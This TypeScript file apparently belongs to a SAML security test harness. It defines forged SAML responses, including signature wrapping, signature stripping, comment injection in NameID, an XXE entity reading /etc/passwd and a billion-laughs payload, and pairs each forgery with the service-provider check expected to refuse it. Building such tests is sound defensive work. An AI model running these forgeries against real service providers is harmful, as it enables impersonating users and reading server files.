import type { SigningOption } from '../idp/model';
import type { CheckId } from '../sp/report';
import type { SpPolicy } from '../sp/model';
import { descendants, firstChild } from '../xml/dom';
import { NS } from '../xml/namespaces';
import { assertionOf, editXml, stripSignatures, subjectConfirmationData } from './forge';
import type { AttackKit } from './kit';
import { applyXsw, XSW_DESCRIPTIONS, XSW_VARIANTS } from './xsw';

export type AttackCategory = 'control' | 'wrapping' | 'stripping' | 'trust' | 'parsing' | 'ambiguity' | 'replay' | 'time' | 'addressing' | 'algorithm' | 'encryption';

/** What an attack posts: one forged response, or the same one twice (a replay). */
export interface Forged {
  xml: string;
  postTwice?: boolean;
}

export interface Attack {
  id: string;
  title: string;
  category: AttackCategory;
  /** The checks that must each refuse it (others may too); empty for the control, which must be accepted. */
  refusedBy(policy: SpPolicy): CheckId[];
  /** Checks that must warn when the SP's policy accepts it (an SP that merges repeated attributes says so). */
  warnedBy?(policy: SpPolicy): CheckId[];
  /** Whether it needs an SP that takes encrypted assertions. */
  needsEncryption?: boolean;
  /** Builds the forgery against this SP (signatures as this SP requires them). */
  forge(kit: AttackKit): Promise<Forged>;
  /** The same forgery as a naive SP would be shown it (the weakest signing that makes the attack work). */
  forgeForNaive?(kit: AttackKit): Promise<Forged>;
}

const only =
  (...ids: CheckId[]) =>
  () =>
    ids;

/** Puts the victim in every NameID of the document. */
function impersonate(xml: string, victim: string): string {
  return editXml(xml, (doc) => {
    for (const n of descendants(doc, NS.saml, 'NameID')) n.textContent = victim;
  });
}

const xsw = XSW_VARIANTS.map((v, i): Attack => {
  const onResponse = i < 2;
  const forgeWith = async (kit: AttackKit, signing: SigningOption) => ({ xml: applyXsw(await kit.issue({ signing }), v, kit.victim) });
  return {
    id: v,
    title: `${v.toUpperCase()}: ${XSW_DESCRIPTIONS[v]}`,
    category: 'wrapping',
    refusedBy: only('signature.coverage'),
    forge: (kit) => forgeWith(kit, kit.signingFor(onResponse ? 'response' : 'assertion')),
    forgeForNaive: (kit) => forgeWith(kit, onResponse ? 'response' : 'assertion'),
  };
});

const STRIPPING: Attack[] = [
  {
    id: 'strip-all',
    title: 'Every signature removed, NameID changed to the victim',
    category: 'stripping',
    refusedBy: only('signature.required'),
    forge: async (kit) => ({ xml: impersonate(stripSignatures(await kit.issue()), kit.victim) }),
  },
  {
    id: 'strip-response',
    title: "The Response's signature removed, NameID changed (the Assertion's signature left, now broken)",
    category: 'stripping',
    refusedBy: (p) => (p.wantResponseSigned ? ['signature.required'] : ['signature.valid']),
    forge: async (kit) => ({ xml: impersonate(stripSignatures(await kit.issue({ signing: 'response-and-assertion' }), 'response'), kit.victim) }),
  },
  {
    id: 'strip-assertion',
    title: "The Assertion's signature removed, NameID changed (the Response's signature left, now broken)",
    category: 'stripping',
    refusedBy: (p) => (p.wantAssertionsSigned ? ['signature.required'] : ['signature.valid']),
    forge: async (kit) => ({ xml: impersonate(stripSignatures(await kit.issue({ signing: 'response-and-assertion' }), 'assertion'), kit.victim) }),
  },
  {
    id: 'untrusted-key',
    title: "The victim's NameID, signed with the attacker's own key (its certificate in KeyInfo)",
    category: 'trust',
    refusedBy: only('signature.trusted'),
    forge: async (kit) => ({ xml: kit.resign(impersonate(await kit.issue(), kit.victim), kit.signingFor(), kit.attackerKey) }),
  },
];

/** CVE-2017-11428 and kin: the attacker's own address, split by a comment where the victim's ends. */
const commentInjection: Attack = {
  id: 'comment-in-nameid',
  title: 'A comment in the NameID: victim@contoso.com<!---->.evil.example (CVE-2017-11428 family)',
  category: 'ambiguity',
  refusedBy: only('signature.coverage'),
  forge: async (kit) => {
    const own = `${kit.victim}.evil.example`;
    const xml = await kit.issue({ overrides: { 'user.mail': [own], 'user.userprincipalname': [own] } });
    return { xml: xml.replace(`>${own}<`, `>${kit.victim}<!---->.evil.example<`) };
  },
};

const AMBIGUITY: Attack[] = [
  commentInjection,
  {
    id: 'duplicate-assertion',
    title: 'A second, unsigned Assertion for the victim after the signed one',
    category: 'ambiguity',
    refusedBy: only('signature.coverage'),
    forge: async (kit) => {
      const xml = await kit.issue();
      return {
        xml: editXml(xml, (doc) => {
          const copy = assertionOf(doc).cloneNode(true) as Element;
          const sig = firstChild(copy, NS.ds, 'Signature');
          if (sig) copy.removeChild(sig);
          copy.setAttribute('ID', '_second_assertion');
          for (const n of descendants(copy, NS.saml, 'NameID')) n.textContent = kit.victim;
          doc.documentElement.appendChild(copy);
        }),
      };
    },
  },
  {
    id: 'duplicate-attribute',
    title: 'An attribute sent twice with different values, signed by Entra (first-wins and last-wins SPs disagree)',
    category: 'ambiguity',
    // Each SP is held to the rule it states: one that refuses must refuse; one that merges, or reads the first or
    // the last, must accept and say so in a warning row.
    refusedBy: (p) => (p.repeatedAttributes === 'refuse' ? ['assertion.attributes'] : []),
    warnedBy: (p) => (p.repeatedAttributes === 'refuse' ? [] : ['assertion.attributes']),
    forge: async (kit) => {
      const xml = editXml(stripSignatures(await kit.issue()), (doc) => {
        const attr = descendants(doc, NS.saml, 'Attribute')[0];
        if (!attr) throw new Error('the response carries no attribute to duplicate');
        const copy = attr.cloneNode(true) as Element;
        for (const v of descendants(copy, NS.saml, 'AttributeValue')) v.textContent = 'admin';
        attr.parentNode!.insertBefore(copy, attr.nextSibling);
      });
      return { xml: kit.resign(xml, kit.signingFor(), kit.idpSigner) };
    },
  },
];

const DTD_ATTACKS: Attack[] = [
  {
    id: 'xxe',
    title: 'An external entity (XXE) reading /etc/passwd into the NameID',
    category: 'parsing',
    refusedBy: only('xml.wellFormed'),
    forge: async (kit) => {
      const xml = (await kit.issue()).replace(/^<\?xml[^>]*>/, '');
      return { xml: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${xml.replace(/(<(?:\w+:)?NameID[^>]*>)[^<]*/, '$1&xxe;')}` };
    },
  },
  {
    id: 'entity-expansion',
    title: 'Nested entities that expand to gigabytes ("billion laughs")',
    category: 'parsing',
    refusedBy: only('xml.wellFormed'),
    forge: async (kit) => {
      const lol = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('');
      const xml = (await kit.issue()).replace(/^<\?xml[^>]*>/, '');
      return { xml: `<?xml version="1.0"?><!DOCTYPE r [${lol}]>${xml.replace(/(<(?:\w+:)?NameID[^>]*>)[^<]*/, '$1&lol9;')}` };
    },
  },
];

const minutes = (kit: AttackKit, n: number) => new Date(kit.now().getTime() + n * 60_000);

/** Genuine responses, signed by Entra, that are wrong for this SP: another time, audience, address or request. */
const GENUINE_BUT_WRONG: Attack[] = [
  {
    id: 'replay',
    title: 'A genuine response posted a second time',
    category: 'replay',
    refusedBy: only('assertion.replay'),
    forge: async (kit) => ({ xml: await kit.issue(), postTwice: true }),
  },
  {
    id: 'expired',
    title: 'A genuine response two hours old',
    category: 'time',
    refusedBy: only('subject.bearer', 'assertion.time'),
    forge: async (kit) => ({ xml: await kit.issue({ now: minutes(kit, -120) }) }),
  },
  {
    id: 'not-yet-valid',
    title: 'A genuine response from ten minutes in the future (NotBefore ahead of the SP)',
    category: 'time',
    refusedBy: only('assertion.time'),
    forge: async (kit) => ({ xml: await kit.issue({ now: minutes(kit, 10) }) }),
  },
  {
    id: 'wrong-audience',
    title: 'A genuine response for another app of the tenant (its Audience)',
    category: 'addressing',
    refusedBy: only('assertion.audience'),
    forge: async (kit) => ({ xml: await kit.issue({ audience: 'https://another-app.example.com/saml' }) }),
  },
  {
    id: 'wrong-destination',
    title: 'A genuine response addressed (Destination) to another ACS',
    category: 'addressing',
    refusedBy: only('response.destination'),
    forge: async (kit) => {
      const xml = editXml(stripSignatures(await kit.issue()), (doc) => doc.documentElement.setAttribute('Destination', 'https://another-app.example.com/acs'));
      return { xml: kit.resign(xml, kit.signingFor(), kit.idpSigner) };
    },
  },
  {
    id: 'wrong-recipient',
    title: 'A genuine response whose bearer Recipient is another ACS',
    category: 'addressing',
    refusedBy: only('subject.bearer'),
    forge: async (kit) => {
      const xml = editXml(stripSignatures(await kit.issue()), (doc) => subjectConfirmationData(doc).setAttribute('Recipient', 'https://another-app.example.com/acs'));
      return { xml: kit.resign(xml, kit.signingFor(), kit.idpSigner) };
    },
  },
  {
    id: 'wrong-in-response-to',
    title: 'A genuine response to an AuthnRequest this SP never sent',
    category: 'addressing',
    refusedBy: only('response.inResponseTo'),
    forge: async (kit) => ({ xml: await kit.issue({ inResponseTo: '_a-request-this-sp-never-sent' }) }),
  },
  {
    id: 'sha1',
    title: 'A genuine response signed with SHA-1',
    category: 'algorithm',
    refusedBy: (p) => (p.allowSha1 ? [] : ['signature.algorithm']),
    forge: async (kit) => ({ xml: await kit.issue({ hash: 'sha1' }) }),
  },
];

const ENCRYPTION: Attack[] = [
  {
    id: 'encrypted-tampered',
    title: 'An encrypted assertion with its ciphertext altered',
    category: 'encryption',
    needsEncryption: true,
    refusedBy: only('assertion.decryption'),
    forge: async (kit) => {
      const xml = await kit.issue({ encrypt: true, signing: kit.signingFor('assertion') });
      return {
        xml: xml.replace(/(<(?:\w+:)?CipherValue>)([A-Za-z0-9+/]{40})/g, (_m, open: string, head: string) => `${open}${head.split('').reverse().join('')}`),
      };
    },
  },
  {
    id: 'encrypted-forged',
    title: "An assertion for the victim, unsigned, encrypted with the SP's public certificate",
    category: 'encryption',
    needsEncryption: true,
    refusedBy: only('signature.required'),
    forge: async (kit) => {
      const plain = impersonate(stripSignatures(await kit.issue({ signing: 'assertion' })), kit.victim);
      const assertionXml = /<(?:\w+:)?Assertion\b[\s\S]*<\/(?:\w+:)?Assertion>/.exec(plain)![0];
      const encrypted = await kit.encryptForSp(
        assertionXml.includes('xmlns="urn:oasis:names:tc:SAML:2.0:assertion"')
          ? assertionXml
          : assertionXml.replace(/^<(\w+:)?Assertion\b/, (m) => `${m} xmlns="urn:oasis:names:tc:SAML:2.0:assertion"`),
      );
      return { xml: plain.replace(/<(?:\w+:)?Assertion\b[\s\S]*<\/(?:\w+:)?Assertion>/, `<EncryptedAssertion xmlns="urn:oasis:names:tc:SAML:2.0:assertion">${encrypted}</EncryptedAssertion>`) };
    },
  },
];

const CONTROL: Attack = {
  id: 'control',
  title: 'The untouched response (a control: it must be accepted)',
  category: 'control',
  refusedBy: () => [],
  forge: async (kit) => ({ xml: await kit.issue() }),
};

/** The attack pack: each forgery, and which check must refuse it. */
export const ATTACKS: readonly Attack[] = [CONTROL, ...xsw, ...STRIPPING, ...AMBIGUITY, ...DTD_ATTACKS, ...GENUINE_BUT_WRONG, ...ENCRYPTION];
